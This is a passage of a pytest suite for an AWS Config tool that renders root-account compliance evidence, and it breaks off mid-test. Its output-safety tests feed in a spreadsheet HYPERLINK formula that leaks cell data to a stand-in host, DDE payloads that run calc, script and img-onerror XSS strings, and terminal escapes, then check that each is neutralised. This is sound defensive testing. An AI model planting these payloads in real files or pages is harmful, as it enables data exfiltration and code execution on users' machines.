"""Evidence an auditor can sign: exactly the rule asked for, every state Config records,
files that are safe to open, the root use every format shows, a bounded period.

Each account is a ConfigRecords: AWS Config answering by request, through a real boto3
client checked against the API model."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import sys
import unicodedata
from datetime import timedelta
from html.parser import HTMLParser
from unittest import mock

import pytest

from root_account_usage.cli.main import main
from root_account_usage.core.cloudtrail_evidence import RootActivity
from root_account_usage.core.events import parse_periodic_event
from root_account_usage.core.exceptions import InvalidEventError, InvalidParameterError
from root_account_usage.core.parameters import parse_rule_parameters
from root_account_usage.core.report import CredentialUse, RootCredentials
from root_account_usage.core.verdict import decide
from root_account_usage.history.config_reader import HistoryUnavailableError
from root_account_usage.history.evidence import render_csv, render_html, render_json, render_text
from root_account_usage.history.organization import (
    AuditorSession,
    collect_evidence,
    read_accounts,
)
from root_account_usage.simulation.events import periodic_event
from tests.functional.history.records import (
    ACCOUNT,
    FUNCTION,
    NOW,
    REGION,
    RULE,
    SINCE,
    UNTIL,
    ConfigRecords,
    day,
    parameters,
)
from tests.reports import apply_cloudtrail

ORG_RULE = f"OrgConfigRule-{RULE}-ab12cd34"
PACK_RULE = f"{RULE}-conformance-pack-szsm1uv0w"
RECENT = (
    "Root console password was used at 2026-11-08T09:00:00Z, within the 7-day threshold; "
    "report generated 2026-11-08T09:30:00Z."
)
NO_USE = "Root user has no recorded use of its console password or access keys; threshold 7 days."
RENDERERS = {"json": render_json, "csv": render_csv, "text": render_text, "html": render_html}


def collect(records: ConfigRecords, rule_name: str = RULE, **options):
    return collect_evidence(
        AuditorSession(records.client(), records.account_id, REGION),
        rule_name=rule_name,
        since=options.pop("since", SINCE),
        until=options.pop("until", UNTIL),
        now=NOW,
        sleep=lambda seconds: None,
        **options,
    )


def document(records: ConfigRecords, rule_name: str = RULE):
    return json.loads(render_json(collect(records, rule_name)))


def csv_rows(report) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(render_csv(report))))


# 1. Exactly the rule asked for -----------------------------------------------------


def test_a_legacy_rule_saying_compliant_never_decides_the_rules_evidence():
    # Config lists the legacy rule first, and its latest evaluation is the newer one.
    records = ConfigRecords(
        {f"legacy-{RULE}": parameters(), RULE: parameters()},
        [
            (SINCE - timedelta(days=2), {f"legacy-{RULE}": "COMPLIANT", RULE: "NON_COMPLIANT"}),
            (day(3), {f"legacy-{RULE}": "COMPLIANT", RULE: "NON_COMPLIANT", "other": "COMPLIANT"}),
        ],
        {
            f"legacy-{RULE}": ("COMPLIANT", NO_USE, day(9, 22)),
            RULE: ("NON_COMPLIANT", RECENT, day(9, 21)),
        },
    )
    evidence = document(records)
    assert [rule["name"] for rule in evidence["rules"]] == [RULE]
    [account] = evidence["accounts"]
    assert account["current"]["compliance_type"] == "NON_COMPLIANT"
    assert account["non_compliant_share"] == 1.0
    assert account["timeline"] == [
        {"start": "2026-11-01T00:00:00Z", "end": "2026-11-11T00:00:00Z", "state": "NON_COMPLIANT"}
    ]
    assert evidence["summary"]["ever_non_compliant"] == [ACCOUNT]


@pytest.mark.parametrize(
    "other",
    [
        f"legacy-{RULE}",
        f"{RULE}-v2",
        f"my-{RULE}",
        f"OrgConfigRule-{RULE}",  # no suffix
        f"OrgConfigRule-{RULE}-AB12CD34",  # AWS's suffixes are lowercase
        f"OrgConfigRule-{RULE}-v2-ab12cd34",  # the organization rule {RULE}-v2
        f"{RULE}-conformance-pack",
        f"{RULE}-v2-conformance-pack-szsm1uv0w",
        f"x{RULE}-conformance-pack-szsm1uv0w",
    ],
)
def test_names_that_merely_contain_the_rule_are_other_rules(other):
    records = ConfigRecords(
        {other: parameters()},
        [(day(1), {other: "COMPLIANT"})],
        {other: ("COMPLIANT", NO_USE, day(1))},
    )
    evidence = document(records)
    assert evidence["rules"] == []
    [account] = evidence["accounts"]
    assert account["rule_name"] is None
    assert account["current"] is None
    assert any("No AWS Config rule" in note for note in evidence["notes"])


def test_each_matched_rule_is_shown_separately_with_its_own_verdict():
    records = ConfigRecords(  # listed by Config in no particular order
        {PACK_RULE: parameters(), RULE: parameters(ThresholdDays="30"), ORG_RULE: parameters()},
        [
            (SINCE - timedelta(days=1), {ORG_RULE: "COMPLIANT", RULE: "COMPLIANT"}),
            (day(4), {ORG_RULE: "COMPLIANT", RULE: "NON_COMPLIANT", PACK_RULE: "COMPLIANT"}),
        ],
        {
            ORG_RULE: ("COMPLIANT", NO_USE, day(9, 20)),
            RULE: ("NON_COMPLIANT", RECENT, day(9, 20)),
            PACK_RULE: ("COMPLIANT", NO_USE, day(9, 20)),
        },
    )
    report = collect(records)
    evidence = json.loads(render_json(report))
    by_rule = {a["rule_name"]: a for a in evidence["accounts"]}
    assert list(by_rule) == sorted([ORG_RULE, RULE, PACK_RULE])  # the same order every run
    assert by_rule[ORG_RULE]["non_compliant_share"] == 0.0
    assert by_rule[RULE]["non_compliant_share"] == pytest.approx(0.575)
    assert by_rule[RULE]["threshold_days"] == 30
    assert by_rule[PACK_RULE]["state_at_start"] is None  # it came with the pack, on day 4
    assert by_rule[PACK_RULE]["timeline"][0]["state"] == "UNKNOWN"
    assert {a["current"]["compliance_type"] for a in evidence["accounts"]} == {
        "COMPLIANT",
        "NON_COMPLIANT",
    }
    current_rows = {r["rule_name"]: r["state"] for r in csv_rows(report) if r["kind"] == "current"}
    assert current_rows == {
        ORG_RULE: "COMPLIANT",
        RULE: "NON_COMPLIANT",
        PACK_RULE: "COMPLIANT",
    }
    text = render_text(report)
    assert f"{RULE}, threshold 30 days" in text
    assert f"{ORG_RULE}, threshold 7 days" in text


# What the rule makes of each: (InputParameters, threshold shown, why invalid).
PARAMETERS = [
    ('{"ThresholdDays": "30"}', 30, None),
    ('{"ThresholdDays": 30}', 30, None),
    ("{}", 7, None),
    (None, 7, None),  # no InputParameters at all
    ('{"ThresholdDays": null}', None, "rule parameter ThresholdDays is null"),
    ('{"ThresholdDays": "7", "ThresholdDays": "30"}', None, "given more than once"),
    ('{"ThresholdDay": "30"}', None, "unknown rule parameter(s) ThresholdDay"),
    ('{"ThresholdDays": 7.0}', None, "ThresholdDays must be a whole number"),
    ('{"ThresholdDays": "0"}', None, "ThresholdDays must be from 1 to 3650"),
    ("not json", None, "InputParameters is not valid JSON"),
    ("[7]", None, "InputParameters is not a JSON object"),
    ('{"ThresholdDays": ' + "9" * 5000 + "}", None, "over the 4096 limit"),
]


@pytest.mark.parametrize(("raw", "threshold", "invalid"), PARAMETERS)
def test_the_threshold_shown_is_what_the_rule_makes_of_its_parameters(raw, threshold, invalid):
    records = ConfigRecords(
        {RULE: raw}, [(day(1), {RULE: "COMPLIANT"})], {RULE: ("COMPLIANT", NO_USE, day(1))}
    )
    report = collect(records)
    [account] = json.loads(render_json(report))["accounts"]
    assert account["threshold_days"] == threshold
    [current] = [row for row in csv_rows(report) if row["kind"] == "current"]
    text = render_text(report)
    if invalid is None:
        assert account["parameters_invalid"] is None
        assert current["threshold_days"] == str(threshold)
        assert f"{RULE}, threshold {threshold} days" in text
    else:
        assert invalid in account["parameters_invalid"]
        assert current["threshold_days"].startswith("invalid: ")
        assert f"{RULE}, threshold invalid: " in text
        assert "invalid: " in render_html(report)
    # The rule itself, handed the same text as its event's ruleParameters.
    event = periodic_event(ACCOUNT, NOW)
    if raw is None:
        del event["ruleParameters"]
    else:
        event["ruleParameters"] = raw
    try:
        periodic = parse_periodic_event(event)
        ruled = parse_rule_parameters(periodic.rule_parameters, periodic.repeated_parameters)
    except (InvalidEventError, InvalidParameterError):
        assert threshold is None
    else:
        assert ruled.threshold_days == threshold


# 2. Every state Config records --------------------------------------------------------


class _Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.external: list[str] = []
        self.segments: dict[str, str] = {}  # state -> fill colour
        self.legend: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        values = dict(attrs)
        self.external += [values[a] for a in ("src", "href") if values.get(a)]
        if tag == "rect" and "data-state" in values:
            self.segments[values["data-state"]] = values["fill"]
        if tag == "span" and values.get("class") == "key":
            self.legend.append(values.get("data-state", ""))


STATES = (
    "COMPLIANT",
    "NON_COMPLIANT",
    "UNABLE_TO_EVALUATE",
    "NOT_APPLICABLE",
    "INSUFFICIENT_DATA",
    "STALE",
    "UNKNOWN",
)


def every_state_records() -> ConfigRecords:
    """A period that passes through each state Config records, ending NOT_APPLICABLE."""
    return ConfigRecords(
        {RULE: parameters()},
        [
            (day(1), {RULE: "COMPLIANT"}),
            (day(2), {RULE: "NON_COMPLIANT"}),
            (day(3), {RULE: "INSUFFICIENT_DATA"}),
            (day(4), {"other": "COMPLIANT"}),  # the rule was gone: no record
            (day(5), {RULE: "NOT_APPLICABLE"}),
        ],
        {RULE: ("NOT_APPLICABLE", "Not an account resource.", day(5))},
    )


@pytest.mark.parametrize("fmt", sorted(RENDERERS))
def test_every_state_config_records_renders_in_every_format(fmt):
    report = collect(every_state_records())
    rendered = RENDERERS[fmt](report)
    for state in ("NOT_APPLICABLE", "INSUFFICIENT_DATA", "NON_COMPLIANT", "COMPLIANT"):
        assert state in rendered


def test_a_latest_evaluation_that_is_not_applicable_is_read_not_filtered_out():
    [account] = json.loads(render_json(collect(every_state_records())))["accounts"]
    assert account["current"]["compliance_type"] == "NOT_APPLICABLE"


def test_each_state_has_its_own_colour_and_legend_entry_in_html():
    page = _Page()
    page.feed(render_html(collect(every_state_records())))
    assert page.legend == list(STATES)
    assert set(page.segments) == set(STATES) - {"UNABLE_TO_EVALUATE"}
    assert len(set(page.segments.values())) == len(page.segments)  # one colour each


def test_a_state_config_may_add_one_day_is_shown_as_written():
    records = every_state_records()
    records.items += ConfigRecords({}, [(day(6), {RULE: "SOMETHING_NEW"})], {}).items
    page = _Page()
    page.feed(render_html(collect(records)))
    assert page.legend == [*STATES, "SOMETHING_NEW"]
    assert "SOMETHING_NEW" in page.segments


# 3. Files that are safe to open ------------------------------------------------------

# (what Config returned, the cell a spreadsheet gets)
FORMULAS = [
    ('=HYPERLINK("http://203.0.113.9/?leak="&A1,"click")', None),
    ("+1+cmd|' /C calc'!A0", None),
    ("-2+3", None),
    ("@SUM(1+1)*cmd|' /C calc'!A0", None),
    (" =1+2", None),
    ("\u00a0=1+2", None),  # a no-break space before it
    ("\u3000=1+2", None),  # an ideographic space
    # Control characters are written as escapes (as in text): no formula is left.
    ("\t=1+2", "\\x09=1+2"),
    ("\r=1+2", "\\x0d=1+2"),
    ("\n=1+2", "\\x0a=1+2"),
    ("\ufeff=1+2", "\\ufeff=1+2"),  # a byte order mark
]


@pytest.mark.parametrize(("formula", "cell"), FORMULAS)
def test_csv_cells_never_start_a_formula(formula, cell):
    records = ConfigRecords(
        {RULE: parameters()},
        [(day(1), {RULE: "NON_COMPLIANT"})],
        {RULE: ("NON_COMPLIANT", formula, day(1))},
    )
    rows = list(csv.reader(io.StringIO(render_csv(collect(records)))))
    cells = [cell for row in rows for cell in row]
    # kept, and neutralised with OWASP's leading quote, or escaped
    assert (cell or "'" + formula) in cells
    for shown in cells:
        assert not shown.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "\n")), shown


# Terminal escapes and other control characters: ESC (clear the screen, move the
# cursor), VT, FF, NUL, DEL, a C1 control (CSI), NEL, and separators.
CONTROLS = "\x1b[2J\x1b[1;1H\x0b\x0c\x00\x7f\x9b\x85\u2028\u2029\u202e"


def test_csv_cells_hold_no_control_character_only_its_escape():
    records = ConfigRecords(
        {RULE: parameters()},
        [(day(1), {RULE: "COMPLIANT"})],
        {RULE: ("COMPLIANT", f"ok{CONTROLS}COMPLIANT", day(1))},
    )
    rows = list(csv.reader(io.StringIO(render_csv(collect(records)))))
    cells = "".join(cell for row in rows for cell in row)
    assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp") for ch in cells)
    [current] = [row for row in rows if row[0] == "current"]
    assert current[6] == (
        "ok\\x1b[2J\\x1b[1;1H\\x0b\\x0c\\x00\\x7f\\x9b\\x85\\u2028\\u2029\\u202eCOMPLIANT"
    )


def test_a_rule_name_asked_for_that_looks_like_a_formula_is_neutralised_too():
    records = ConfigRecords({}, [], {})
    rows = list(csv.reader(io.StringIO(render_csv(collect(records, rule_name="=1+2")))))
    assert rows[1][5] in ("", "'=1+2")


FORGED = (
    "ok\nAccount 999999999999 (us-east-1), root-account-usage, threshold 7 days\n"
    "  current: COMPLIANT (2026-11-10T00:00:00Z): Root user has no recorded use\x1b[2J"
)


def test_a_newline_in_an_annotation_cannot_forge_a_line_of_text_evidence():
    records = ConfigRecords(
        {RULE: parameters()},
        [(day(1), {RULE: "NON_COMPLIANT"})],
        {RULE: ("NON_COMPLIANT", FORGED, day(1))},
    )
    text = render_text(collect(records))
    lines = text.splitlines()
    assert not any(line.startswith("Account 999999999999") for line in lines)
    assert sum(line.startswith("Account ") for line in lines) == 1
    assert "\x1b" not in text  # no terminal escape reaches the screen
    assert "ok\\x0aAccount 999999999999" in text  # shown, escaped, on the one line


def test_json_is_always_valid_even_when_rule_parameters_hold_nan_or_infinity():
    records = ConfigRecords(
        {RULE: '{"ThresholdDays": "7", "Weight": NaN, "Cap": Infinity, "Big": 1e999, "x": 0.5}'},
        [(day(1), {RULE: "COMPLIANT"})],
        {RULE: ("COMPLIANT", NO_USE, day(1))},
    )
    rendered = render_json(collect(records))

    def refuse(constant):
        raise ValueError(f"not JSON: {constant}")

    evidence = json.loads(rendered, parse_constant=refuse)
    assert evidence["rules"][0]["parameters"] == {
        "ThresholdDays": "7",
        "Weight": "NaN",
        "Cap": "Infinity",
        "Big": "1e999",
        "x": 0.5,
    }


def test_html_escapes_what_aws_returned_and_stays_self_contained():
    records = ConfigRecords(
        {RULE: parameters(Note="</style><script>alert(1)</script>")},
        [(day(1), {RULE: "NON_COMPLIANT"})],
        {RULE: ("NON_COMPLIANT", '<img src="http://203.0.113.9/x.png" onerror=alert(1)>', day(1))},
    )
    page_html = render_html(collect(records))
    page = _Page()
    page.feed(page_html)
    assert "script" not in page.tags
    assert "img" not in page.tags
    assert page.external == []
    assert "&lt;img src=" in page_html


# 4. The root use the latest evaluation names, in every format --------------------------


def cloudtrail_driven_annotation() -> str:
    """What the rule publishes when CloudTrail, not the report, shows the use."""
    root = RootCredentials(ACCOUNT, (CredentialUse("password", None),))
    verdict = decide(root, now=day(9), threshold_days=7, report_generated_at=day(9))
    sign_in = RootActivity(
        day(8, 13), "ConsoleLogin", "us-east-1", "2001:db8::" + "f" * 150, True, "us-east-1"
    )
    return apply_cloudtrail(verdict, [sign_in], now=day(9), threshold_days=7).annotation


@pytest.mark.parametrize("fmt", sorted(RENDERERS))
def test_a_non_compliant_verdict_cloudtrail_decided_shows_the_use_in_every_format(fmt):
    annotation = cloudtrail_driven_annotation()
    assert len(annotation) <= 256
    records = ConfigRecords(
        {RULE: parameters(CloudTrailEvidence="true")},
        [(day(9), {RULE: "NON_COMPLIANT"})],
        {RULE: ("NON_COMPLIANT", annotation, day(9))},
    )
    report = collect(records)
    rendered = RENDERERS[fmt](report)
    assert "none seen" not in rendered
    if fmt == "csv":
        [current] = [row for row in csv_rows(report) if row["kind"] == "current"]
        assert current["root_use_credential"].startswith("CloudTrail: console sign-in from")
        assert current["root_use_time"] == "2026-11-09T13:00:00Z"
    elif fmt == "json":
        use = json.loads(rendered)["accounts"][0]["most_recent_root_use"]
        assert use["credential"].startswith("CloudTrail: console sign-in from 2001:db8::")
        assert use["time"] == "2026-11-09T13:00:00Z"
    else:
        assert "CloudTrail: console sign-in from 2001:db8::" in rendered
        assert "2026-11-09T13:00:00Z" in rendered


class NotRecordingCompliance(ConfigRecords):
    """A recorder that records other types only: AWS Config keeps no compliance history."""

    def describe_configuration_recorders(self, **_):
        self._called("DescribeConfigurationRecorders")
        group = {"allSupported": False, "resourceTypes": ["AWS::S3::Bucket"]}
        return {"ConfigurationRecorders": [{"name": "default", "recordingGroup": group}]}


def test_a_root_use_named_inside_the_period_makes_the_account_ever_non_compliant():
    # No history; the latest evaluation was stamped a minute after the period ended (by
    # AWS's clock, ahead of the auditor's) and names a use ten minutes before it ended.
    use = UNTIL - timedelta(minutes=10)
    annotation = (
        f"Root console password was used at {use:%Y-%m-%dT%H:%M:%SZ}, within the 7-day "
        "threshold; report generated 2026-11-10T23:55:00Z."
    )
    records = NotRecordingCompliance(
        {RULE: parameters()},
        [],
        {RULE: ("NON_COMPLIANT", annotation, UNTIL + timedelta(minutes=1))},
    )
    report = collect(records)
    evidence = json.loads(render_json(report))
    assert evidence["summary"]["ever_non_compliant"] == [ACCOUNT]
    assert evidence["summary"]["without_history"] == [ACCOUNT]
    assert f"ever non-compliant in the period: 1 ({ACCOUNT})" in render_text(report)


# 5. Bounded work ------------------------------------------------------------------------


def test_a_period_from_year_one_reads_at_most_what_config_can_hold():
    records = ConfigRecords(
        {RULE: parameters()}, [(day(1), {RULE: "COMPLIANT"})], {}, max_calls=400
    )
    from datetime import UTC, datetime

    report = collect(records, since=datetime(1, 1, 1, tzinfo=UTC))
    windows = records.calls.count("GetResourceConfigHistory") - 1  # less the state at start
    assert windows == 366  # 2,557 days in seven-day windows
    assert report.since == NOW - timedelta(days=2557)
    assert any("2,557 days" in note for note in report.notes)
    assert "2,557 days" in render_html(report)


def test_cli_period_far_in_the_past_or_future_is_cut_and_said(capsys):
    assert (
        main(
            [
                "history",
                "--demo",
                "--since",
                "0001-01-01",
                "--until",
                "9999-12-31",
                "--format",
                "json",
            ]
        )
        == 0
    )
    evidence = json.loads(capsys.readouterr().out)
    notes = " ".join(evidence["notes"])
    assert "2,557 days" in notes
    assert "after this report was made" in notes


@pytest.mark.parametrize("until", ["0001-01-05", "1990-01-01T00:00:00Z"])
def test_cli_period_wholly_before_what_config_holds_is_one_usage_line(until, capsys):
    with pytest.raises(SystemExit) as exit_:
        main(["history", "--demo", "--until", until])
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert "--since/--until: the period lies entirely outside" in err
    assert err.count("\n") == 1


class Cycling(ConfigRecords):
    """AWS Config answering one operation's pages with tokens that never end: a cycle
    (A, B, A, ...) or a new token every time."""

    def __init__(self, operation: str, cycle: bool, **kwargs):
        super().__init__({RULE: parameters()}, [(day(1), {RULE: "COMPLIANT"})], {}, **kwargs)
        self.operation, self.cycle, self.tokens = operation, cycle, 0

    def _page(self, page, request, token_key):
        self.tokens += 1
        if self.cycle:
            page[token_key] = "B" if request.get(token_key) in (None, "A") else "A"
        else:
            page[token_key] = f"t{self.tokens}"
        return page

    def describe_config_rules(self, **request):
        page = super().describe_config_rules(**request)
        if self.operation != "describe_config_rules":
            return page
        return self._page(page, request, "NextToken")

    def get_resource_config_history(self, **request):
        first = {key: value for key, value in request.items() if key != "nextToken"}
        page = super().get_resource_config_history(**first)  # whatever token it is given
        if self.operation != "get_resource_config_history" or request.get("limit") == 1:
            return page
        return self._page(page, request, "nextToken")

    def get_compliance_details_by_config_rule(self, **request):
        page = super().get_compliance_details_by_config_rule(**request)
        if self.operation != "get_compliance_details_by_config_rule":
            return page
        return self._page(page, request, "NextToken")


def test_rules_paged_in_a_cycle_make_config_unreadable_at_once():
    records = Cycling("describe_config_rules", cycle=True)
    with pytest.raises(HistoryUnavailableError, match="describe_config_rules: paging stopped"):
        collect(records)
    assert records.calls.count("DescribeConfigRules") == 3  # A, B, then A again: stop


@pytest.mark.parametrize(
    ("operation", "cycle", "most_calls"),
    [
        ("get_resource_config_history", True, 10),
        ("get_compliance_details_by_config_rule", True, 10),
        ("get_compliance_details_by_config_rule", False, 110),  # MAX_PAGES: 100
    ],
)
def test_an_account_paged_without_end_is_unreadable_with_the_reason(operation, cycle, most_calls):
    records = Cycling(operation, cycle=cycle, max_calls=5_000)
    report = collect(records)
    [unreadable] = report.unreadable
    assert unreadable.error.startswith(f"{operation}: paging stopped: ")
    assert len(records.calls) <= most_calls
    assert f"Unreadable: {ACCOUNT}" in render_text(report)


def test_one_member_account_paged_without_end_never_holds_up_the_others():
    endless = Cycling(
        "get_resource_config_history", cycle=False, account_id="222222222222", max_calls=3_000
    )
    fine = ConfigRecords(
        {RULE: parameters()},
        [(day(1), {RULE: "COMPLIANT"})],
        {RULE: ("COMPLIANT", NO_USE, day(1))},
    )

    class Opener:
        description = "test"

        def open(self, account_id, region):
            return (endless if account_id == "222222222222" else fine).client()

    outcomes = read_accounts(
        [("222222222222", REGION), (ACCOUNT, REGION)],
        Opener(),
        rule_name=RULE,
        since=SINCE,
        until=UNTIL,
        sleep=lambda seconds: None,
    )
    assert "get_resource_config_history: paging stopped: more pages after 2000" in (
        outcomes[0].unreadable.error
    )
    assert outcomes[1].read is not None


# A lone surrogate: half a character, as a JSON escape in what AWS returned can hold.
HALF = "Root user has no recorded use \ud83d; threshold 7 days"


@pytest.mark.parametrize("fmt", sorted(RENDERERS))
def test_a_lone_surrogate_from_aws_is_written_as_an_escape_in_every_format(fmt, tmp_path, capsys):
    records = ConfigRecords(
        {RULE: parameters()}, [(day(1), {RULE: "COMPLIANT"})], {RULE: ("COMPLIANT", HALF, day(1))}
    )
    target = tmp_path / f"evidence.{fmt}"
    target.write_text("earlier evidence")
    session = AuditorSession(records.client(), ACCOUNT, REGION)
    with mock.patch("root_account_usage.history.organization.open_session", return_value=session):
        code = main(["history", "--region", REGION, "--format", fmt, "--output", str(target)])
    assert code == 0, capsys.readouterr().err
    written = target.read_text(encoding="utf-8")
    assert "no recorded use \\ud83d; threshold" in written


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("tqdm", [True, False])
def test_years_of_one_accounts_history_show_one_bar_not_a_line_a_week(tqdm, monkeypatch, capsys):
    if tqdm:
        pytest.importorskip("tqdm")
    else:
        monkeypatch.setitem(sys.modules, "tqdm", None)  # an install without the extra
    terminal = Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    assert main(["history", "--demo", "--since", "2020-01-01", "--format", "json"]) == 0
    shown = terminal.getvalue()
    # Every seven-day read since 2020 (some 360 of them), counted to the end.
    assert re.search(r"\b(3\d\d)/\1\b", shown), shown[-200:]
    assert shown.count("\n") <= (1 if tqdm else 21)


# The organization page -------------------------------------------------------------


def test_a_state_that_began_minutes_before_the_end_shows_on_the_timeline():
    records = ConfigRecords(
        {RULE: parameters()},
        [(day(0), {RULE: "COMPLIANT"}), (UNTIL - timedelta(minutes=5), {RULE: "NON_COMPLIANT"})],
        {RULE: ("NON_COMPLIANT", RECENT, UNTIL - timedelta(minutes=5))},
    )
    page = render_html(collect(records))
    rects = re.findall(
        r'<rect class="seg" data-state="(\w+)" x="([\d.]+)" y="5" width="([\d.]+)"', page
    )
    state, x, width = rects[-1]
    assert state == "NON_COMPLIANT"
    assert float(width) >= 6
    assert float(x) + float(width) == pytest.approx(910, abs=0.2)  # at the bar's right end


def test_an_unreadable_account_is_a_row_of_the_table_not_only_a_count():
    from root_account_usage.history.model import EvidenceReport, UnreadableAccount

    report = EvidenceReport(
        RULE,
        SINCE,
        UNTIL,
        NOW,
        "organization",
        (),
        (UnreadableAccount("444455556666", REGION, "cannot assume role"),),
    )
    table = render_html(report).split('<table class="summary">')[1].split("</table>")[0]
    assert "<td>444455556666</td>" in table
    assert "could not be read: cannot assume role" in table


# Every rule that ran, proven ours, never stale ----------------------------------------


def test_a_rule_deleted_since_keeps_its_non_compliant_record():
    old_org_rule = f"OrgConfigRule-{RULE}-zz99yy88"  # recreated since as ORG_RULE
    records = ConfigRecords(
        {ORG_RULE: parameters()},
        [
            (day(1), {old_org_rule: "NON_COMPLIANT"}),
            (day(3), {ORG_RULE: "COMPLIANT"}),  # the old rule is gone from the list
        ],
        {ORG_RULE: ("COMPLIANT", NO_USE, day(9, 20))},
    )
    evidence = document(records)
    by_rule = {a["rule_name"]: a for a in evidence["accounts"]}
    gone = by_rule[old_org_rule]
    assert gone["rule_exists"] is False
    assert gone["rule_recorded"] == {
        "first": "2026-11-02T06:00:00Z",
        "last": "2026-11-02T06:00:00Z",
    }
    assert gone["ever_non_compliant"] is True
    assert gone["identity"] == "unverified: the rule no longer exists"
    assert evidence["summary"]["ever_non_compliant"] == [ACCOUNT]
    assert evidence["summary"]["rule_deleted"] == [ACCOUNT]
    deleted = (
        "deleted since, named in the records from 2026-11-02T06:00:00Z to 2026-11-02T06:00:00Z"
    )
    assert f"unverified: the rule no longer exists; {deleted}; " in render_text(collect(records))
    summary_row = f"<tr><th>With a rule deleted since</th><td>1: {ACCOUNT}</td></tr>"
    assert summary_row in render_html(collect(records))


@pytest.mark.parametrize(
    ("name", "definition", "problem"),
    [
        (  # anyone may name a rule this way; AWS's own MFA check behind it
            PACK_RULE,
            {
                "Source": {"Owner": "AWS", "SourceIdentifier": "ROOT_ACCOUNT_MFA_ENABLED"},
                "CreatedBy": "config-conforms.amazonaws.com",
            },
            "not a custom Lambda rule",
        ),
        (  # an organization rule's name, backed by an always-COMPLIANT function
            ORG_RULE,
            {
                "Source": {
                    "Owner": "CUSTOM_LAMBDA",
                    "SourceIdentifier": f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:always-ok",
                }
            },
            "runs 'arn:aws:lambda",
        ),
        (PACK_RULE, {"CreatedBy": None}, "created by an account principal"),
    ],
)
def test_a_rule_that_is_not_this_one_is_shown_and_never_counted(name, definition, problem):
    records = ConfigRecords(
        {name: parameters()},
        [(day(1), {name: "COMPLIANT"})],
        {name: ("COMPLIANT", NO_USE, day(9, 20))},
        definitions={name: definition},
    )
    report = collect(records, functions=[FUNCTION])
    [account] = json.loads(render_json(report))["accounts"]
    assert account["identity"].startswith("not this rule: ")
    assert problem in account["identity"]
    assert account["current"] is None  # never read
    assert account["timeline"] == []
    assert account["ever_non_compliant"] is False
    summary = json.loads(render_json(report))["summary"]
    assert summary["not_this_rule"] == [ACCOUNT]
    assert "not this rule" in render_text(report)
    assert "not this rule" in render_html(report)


def test_rules_that_are_not_this_one_are_listed_in_name_order_with_those_that_are():
    other = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:always-ok"
    records = ConfigRecords(
        {PACK_RULE: parameters(), RULE: parameters()},  # Config's order, not the name's
        [(day(1), {RULE: "COMPLIANT"})],
        {RULE: ("COMPLIANT", NO_USE, day(9, 20))},
        definitions={PACK_RULE: {"Source": {"Owner": "CUSTOM_LAMBDA", "SourceIdentifier": other}}},
    )
    accounts = json.loads(render_json(collect(records, functions=[FUNCTION])))["accounts"]
    assert [(a["rule_name"], a["identity"][:13]) for a in accounts] == [
        (RULE, "this rule"),
        (PACK_RULE, "not this rule"),
    ]


def test_without_a_function_arn_a_matched_rule_counts_flagged_unverified():
    records = ConfigRecords(
        {RULE: parameters()},
        [(day(1), {RULE: "NON_COMPLIANT"})],
        {RULE: ("NON_COMPLIANT", RECENT, day(9, 20))},
    )
    evidence = document(records)
    [account] = evidence["accounts"]
    assert account["identity"] == "unverified: no --function-arn to compare its source with"
    assert (account["owner"], account["source"]) == ("CUSTOM_LAMBDA", FUNCTION)
    assert account["created_by"] == ""
    assert account["parameters"] == {"ThresholdDays": "7"}
    assert evidence["summary"]["identity_unverified"] == [ACCOUNT]
    assert evidence["summary"]["ever_non_compliant"] == [ACCOUNT]


def test_an_evaluation_200_days_old_is_stale_in_every_format():
    records = ConfigRecords(
        {RULE: parameters()},
        [(SINCE - timedelta(days=200), {RULE: "COMPLIANT"})],
        {RULE: ("COMPLIANT", NO_USE, SINCE - timedelta(days=200))},
    )
    report = collect(records)
    [account] = json.loads(render_json(report))["accounts"]
    assert account["stale"] is True
    assert account["stale_share"] == 1.0
    assert account["non_compliant_share"] == 0.0
    assert [p["state"] for p in account["timeline"]] == ["STALE"]
    assert json.loads(render_json(report))["summary"]["stale"] == [ACCOUNT]
    assert all(row["stale"].startswith("stale since ") for row in csv_rows(report))
    assert "STALE since" in render_text(report)
    assert 'data-state="STALE"' in render_html(report)


def test_stale_time_is_counted_apart_from_the_verdict_before_it():
    # Daily rule, last evaluated on day 5 (NON_COMPLIANT from day 2): due again by
    # day 6 + 2 hours; from then the period is stale, not non-compliant.
    records = ConfigRecords(
        {RULE: parameters()},
        [(day(2, 0), {RULE: "NON_COMPLIANT"})],
        {RULE: ("NON_COMPLIANT", RECENT, day(5, 0))},
    )
    [account] = document(records)["accounts"]
    assert account["stale_from"] == "2026-11-07T02:00:00Z"
    # Day 2 to day 6, 02:00, then stale to the end; to four places.
    assert (account["non_compliant_share"], account["stale_share"]) == (0.4083, 0.3917)


@pytest.mark.parametrize(
    ("definition", "hours_before_end", "stale", "stale_from"),
    [
        # Hourly: due again three hours after the last evaluation.
        ({"MaximumExecutionFrequency": "One_Hour"}, 4, True, "2026-11-10T23:00:00Z"),
        # Daily, due again 26 hours after it: exactly as the period ends, so not stale in it.
        ({}, 26, False, "2026-11-11T00:00:00Z"),
    ],
)
def test_a_rule_is_stale_from_when_its_frequency_and_two_hours_have_passed(
    definition, hours_before_end, stale, stale_from
):
    records = ConfigRecords(
        {RULE: parameters()},
        [(day(1), {RULE: "COMPLIANT"})],
        {RULE: ("COMPLIANT", NO_USE, UNTIL - timedelta(hours=hours_before_end))},
        definitions={RULE: definition},
    )
    evidence = document(records)
    [account] = evidence["accounts"]
    assert (account["stale"], account["stale_from"]) == (stale, stale_from)
    assert evidence["summary"]["stale"] == ([ACCOUNT] if stale else [])


# What the page and the text show of each account ------------------------------------


def test_each_account_says_what_its_rule_runs_who_made_it_and_how_it_started():
    records = ConfigRecords(
        {RULE: parameters(), ORG_RULE: parameters(CloudTrailEvidence="false")},
        [(SINCE - timedelta(days=1), {RULE: "NON_COMPLIANT"}), (day(1, 8), {RULE: "COMPLIANT"})],
        {RULE: ("COMPLIANT", NO_USE, day(9, 20)), ORG_RULE: ("COMPLIANT", NO_USE, day(9, 21))},
